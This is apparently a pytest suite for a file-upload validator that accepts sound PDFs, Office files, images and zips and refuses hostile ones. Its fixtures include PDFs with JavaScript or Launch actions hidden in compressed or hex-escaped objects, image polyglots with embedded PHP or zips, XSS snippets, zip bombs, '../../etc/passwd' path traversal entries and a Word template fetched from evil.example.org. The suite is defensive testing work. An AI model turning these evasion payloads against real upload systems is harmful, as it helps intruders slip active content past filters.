"""What a file really is, and why one is refused."""

from __future__ import annotations

import hashlib
import io
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf._codecs._codecs import LzwCodec
from pypdf.generic import DictionaryObject, NameObject

from app.files.content import inspect
from app.files.kinds import Accepted, Fault, FileType, Limits, Rejected
from tests.files.made import JPEG, OLE, PNG, a_locked_zip, a_pdf, a_word, a_zip, an_excel

MB = 1024 * 1024
LIMITS = Limits(size_most=20 * MB)


SOUND = {
    "申报书.pdf": (a_pdf(), FileType.PDF),
    "材料.DOCX": (a_word(), FileType.DOCX),
    "预算.xlsx": (an_excel(), FileType.XLSX),
    "图.png": (PNG, FileType.PNG),
    "照片.jpg": (JPEG, FileType.JPEG),
    "照片.jpeg": (JPEG, FileType.JPEG),
    "附件.zip": (a_zip({"数据.csv": b"1,2"}), FileType.ZIP),
}


@pytest.mark.parametrize("name", SOUND)
def test_a_sound_file_is_accepted_with_its_size_and_digest(name: str) -> None:
    content, type = SOUND[name]
    digest = hashlib.sha256(content).hexdigest()
    assert inspect(content, name, LIMITS) == Accepted(name, type, len(content), digest)


@pytest.mark.parametrize(
    ("content", "name", "fault", "word"),
    [
        (b"", "空.pdf", Fault.EMPTY, "0 字节"),
        (PNG, "申报书.pdf", Fault.OTHER_TYPE, "PNG 图片"),
        (a_pdf(), "申报书", Fault.OTHER_TYPE, ".pdf"),
        (a_pdf(), "病毒.exe", Fault.OTHER_TYPE, "PDF"),
        (a_word(), "表.xlsx", Fault.OTHER_TYPE, "docx"),
        (b"MZ\x90\x00" + bytes(300), "申报书.pdf", Fault.UNKNOWN_TYPE, "Windows"),
        (b"<html><script>alert(1)</script>", "申报书.pdf", Fault.UNKNOWN_TYPE, "HTML"),
        ("只是文字".encode(), "申报书.pdf", Fault.UNKNOWN_TYPE, "认不出"),
        (bytes(5000), "申报书.pdf", Fault.UNKNOWN_TYPE, "认不出"),
        (OLE, "旧.doc", Fault.UNKNOWN_TYPE, "旧版"),
        (a_pdf("1234"), "密.pdf", Fault.LOCKED, "加密"),
        (a_pdf(""), "限.pdf", Fault.LOCKED, "加密"),
        (a_pdf()[:-30], "断.pdf", Fault.DAMAGED, "损坏"),
        (b"%PDF-1.7\n" + bytes(3000) + b"%%EOF", "坏.pdf", Fault.DAMAGED, "损坏"),
        (PNG[:-8], "断.png", Fault.DAMAGED, "损坏"),
        (JPEG[:-2], "断.jpg", Fault.DAMAGED, "损坏"),
        (a_word()[:-40], "断.docx", Fault.DAMAGED, "损坏"),
        (a_zip({}), "空.zip", Fault.EMPTY, "没有文件"),
        (a_locked_zip(), "密.zip", Fault.LOCKED, "加密"),
        (a_word(more={"word/vbaProject.bin": b"x"}), "宏.docx", Fault.MACROS, "宏"),
        (a_word("x.macroEnabled.main+xml"), "宏.docm", Fault.MACROS, "宏"),
        (a_word("presentationml.presentation.main+xml"), "演示.pptx", Fault.UNKNOWN_TYPE, "Office"),
    ],
)
def test_what_is_not_sound_is_refused_with_its_reason(
    content: bytes, name: str, fault: Fault, word: str
) -> None:
    answer = inspect(content, name, LIMITS)
    assert isinstance(answer, Rejected)
    assert answer.fault is fault
    assert word in answer.reason.zh
    assert answer.reason.en


def _acting_pdf(write: Callable[[PdfWriter], object]) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(595, 842)
    write(writer)
    writer.write(out)
    return out.getvalue()


def _with_action(kind: str) -> bytes:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    return _acting_pdf(lambda w: w.root_object.update({NameObject("/OpenAction"): action}))


def _with_packed_object(
    content: bytes, pack: Callable[[bytes], bytes] = zlib.compress, how: bytes = b"FlateDecode"
) -> bytes:
    """A PDF one of whose objects is compressed into an object stream (PDF 1.5)."""
    inside = b"1 0 " + content
    packed = pack(inside)
    out = bytearray(b"%PDF-1.5\n")
    places = {}
    for number, body in {
        2: b"<</Type/Catalog/Pages 3 0 R/OpenAction 1 0 R>>",
        3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/%s/Length %d>>stream\n%s\nendstream"
        % (how, len(packed), packed),
    }.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = [b"\0" * 4, b"\2\0\5\0"]
    rows += [b"\1" + places[n].to_bytes(2, "big") + b"\0" for n in range(2, 6)]
    rows.append(b"\1" + len(out).to_bytes(2, "big") + b"\0")
    table = b"".join(rows)
    start = len(out)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 2 0 R/Length %d>>stream\n" % len(table)
    return bytes(out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)


def _template_from_outside() -> dict[str, bytes]:
    relation = (
        b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
        b'Target="http://evil.example.org/t.dotm" TargetMode="External"/></Relationships>'
    )
    return {"word/_rels/settings.xml.rels": relation}


MACRO_WORD = a_word(more={"word/vbaProject.bin": b"x"})
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("content", "name", "fault"),
    [
        (_with_action("/JavaScript"), "js.pdf", Fault.ACTIVE),
        (_with_action("/Launch"), "launch.pdf", Fault.ACTIVE),
        (_with_action("/SubmitForm"), "submit.pdf", Fault.ACTIVE),
        (_with_packed_object(b"<</S/JavaScript/JS(a)>>"), "packed.pdf", Fault.ACTIVE),
        (_with_packed_object(b"<</S/J#61vaScript/JS(a)>>"), "spelled.pdf", Fault.ACTIVE),
        (_acting_pdf(lambda w: w.add_attachment("a.exe", b"MZ")), "carrier.pdf", Fault.ACTIVE),
        (PNG + b"PK\x03\x04", "more.png", Fault.DISGUISED),
        (PNG + a_zip({"a": b"x"}), "polyglot.png", Fault.DISGUISED),
        (JPEG + a_zip({"a": b"x"}) + b"\xff\xd9", "polyglot.jpg", Fault.DISGUISED),
        (JPEG[:-2] + b"<?PHP system(1) ?>\xff\xd9", "script.jpg", Fault.DISGUISED),
        (JPEG[:20] + b"%PDF-1.7" + JPEG[20:], "two.jpg", Fault.DISGUISED),
        (PNG[:16] + b"\0\0\xff\xff" * 2 + PNG[24:], "huge.png", Fault.TOO_LARGE),
        (SVG, "picture.svg", Fault.UNKNOWN_TYPE),
        (SVG, "picture.png", Fault.UNKNOWN_TYPE),
        (a_word(more={"word/activeX/activeX1.bin": b"x"}), "activex.docx", Fault.ACTIVE),
        (a_word(more={"word/embeddings/oleObject1.bin": b"x"}), "ole.docx", Fault.ACTIVE),
        (a_word(more={"xl/macrosheets/sheet1.xml": b"x"}), "xlm.docx", Fault.MACROS),
        (a_word(more=_template_from_outside()), "template.docx", Fault.ACTIVE),
        (a_zip({"a.txt": bytes(40 * MB)}), "bomb.zip", Fault.TOO_LARGE),
        (a_word(more={"word/a.xml": bytes(40 * MB)}), "bomb.docx", Fault.TOO_LARGE),
        (a_zip({f"{n}": b"" for n in range(2001)}), "many.zip", Fault.TOO_LARGE),
        (a_zip({"inner.zip": a_zip({"a": b"x"})}), "nested.zip", Fault.DISGUISED),
        (a_zip({"harmless.txt": a_zip({"a": b"x"})}), "renamed.zip", Fault.DISGUISED),
        (a_zip({"inner.rar": b"Rar!"}), "rar.zip", Fault.DISGUISED),
        (a_zip({"宏.docx": MACRO_WORD}), "macro.zip", Fault.MACROS),
        (a_zip({"run.exe": b"x"}), "program.zip", Fault.ACTIVE),
        (a_zip({"photo.jpg": b"MZ\x90"}), "renamed-program.zip", Fault.ACTIVE),
        (a_zip({"../../etc/passwd": b"x"}), "out.zip", Fault.DISGUISED),
        (a_zip({"C:\\x.txt": b"x"}), "drive.zip", Fault.DISGUISED),
    ],
    ids=lambda value: value if isinstance(value, str) and "." in value else "",
)
def test_what_would_run_or_hide_something_is_refused(
    content: bytes, name: str, fault: Fault
) -> None:
    answer = inspect(content, name, LIMITS)
    assert isinstance(answer, Rejected)
    assert answer.fault is fault, answer.reason.zh


def test_a_pdf_that_takes_long_to_go_through_is_not_gone_through() -> None:
    """Names in plenty that are spelled with codes, and packed objects that unpack slowly."""
    codes = b"".join(b"/A#%02x%x" % (n % 256, n) for n in range(20_000))
    sound = a_pdf()
    coded = sound + b"\n%" + codes + b"\n" + sound[sound.rindex(b"startxref") :]
    slow = _with_packed_object(b"<<>>" + b" " * 10**6, LzwCodec().encode, b"LZWDecode")
    for content, fault in ((coded, Fault.ACTIVE), (slow, Fault.DAMAGED)):
        answer = inspect(content, "a.pdf", LIMITS)
        assert isinstance(answer, Rejected)
        assert answer.fault is fault


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (_acting_pdf(lambda w: w.add_attachment("payload.json", b"{}")), "公文.pdf"),
        (_with_packed_object(b"<</S/URI>>", LzwCodec().encode, b"LZWDecode"), "旧.pdf"),
        (_with_packed_object(b"<</S/URI/URI(https://example.org)>>"), "压缩.pdf"),
        (a_zip({"材料/申报书.docx": a_word(), "图.png": PNG}), "材料.zip"),
        (a_zip({"数据.csv": b"1,2\n" * 100_000}), "数据.zip"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_only_looks_unusual_is_taken(content: bytes, name: str) -> None:
    assert isinstance(inspect(content, name, LIMITS), Accepted)


def test_a_field_takes_only_the_types_it_names() -> None:
    only_pdf = Limits(size_most=MB, types=frozenset({FileType.PDF}))
    assert isinstance(inspect(a_pdf(), "a.pdf", only_pdf), Accepted)
    answer = inspect(PNG, "a.png", only_pdf)
    assert isinstance(answer, Rejected)
    assert "只收PDF 文件" in answer.reason.zh


def test_the_size_limit_itself_is_allowed_and_one_byte_more_is_not() -> None:
    content = a_pdf()
    assert isinstance(inspect(content, "a.pdf", Limits(len(content))), Accepted)
    answer = inspect(content, "a.pdf", Limits(len(content) - 1))
    assert isinstance(answer, Rejected)
    assert answer.fault is Fault.TOO_LARGE


def test_an_archive_that_says_it_unpacks_to_too_much_is_refused() -> None:
    answer = inspect(a_zip({"zeros": bytes(2 * MB)}), "a.zip", Limits(MB, unpacked_most=MB))
    assert isinstance(answer, Rejected)
    assert answer.fault is Fault.TOO_LARGE


class _Endless(io.RawIOBase):
    """200 MB that exist only as they are read; remembers how much was asked for."""

    def __init__(self) -> None:
        self.given = 0
        self.largest = 0

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "the whole stream was asked for at once"
        self.largest = max(self.largest, size)
        piece = min(size, 200 * MB - self.given)
        self.given += piece
        return bytes(piece)

    def seek(self, offset: int, whence: int = 0) -> int:
        return offset


def test_two_hundred_megabytes_are_refused_after_the_limit_and_piece_by_piece() -> None:
    stream = _Endless()
    answer = inspect(stream, "大.pdf", LIMITS)  # type: ignore[arg-type]
    assert isinstance(answer, Rejected)
    assert answer.fault is Fault.TOO_LARGE
    assert "20 MB" in answer.reason.zh
    assert stream.largest <= MB
    assert stream.given <= 21 * MB


def test_an_accepted_stream_is_left_at_its_start(tmp_path: Path) -> None:
    path = tmp_path / "a.pdf"
    path.write_bytes(a_pdf())
    with path.open("rb") as stream:
        assert isinstance(inspect(stream, "a.pdf", LIMITS), Accepted)
        assert stream.read(5) == b"%PDF-"


@given(st.sampled_from([a_pdf(), a_word(), an_excel(), PNG]), st.data())
def test_no_damage_breaks_the_inspection(content: bytes, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(content) - 1))
    damaged = content[:at] + data.draw(st.binary(max_size=8)) + content[at + 4 :]
    assert inspect(damaged, "a.pdf", LIMITS).name == "a.pdf"
